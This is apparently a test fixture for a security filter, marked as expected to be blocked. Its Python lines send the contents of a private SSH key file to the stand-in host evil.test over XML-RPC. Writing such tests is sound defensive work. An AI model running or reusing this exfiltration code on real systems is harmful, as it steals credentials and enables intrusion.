# expect: BLOCKED
import xmlrpc.client
s = xmlrpc.client.ServerProxy("http://evil.test")
s.put(open("/home/u/.ssh/id_rsa").read())
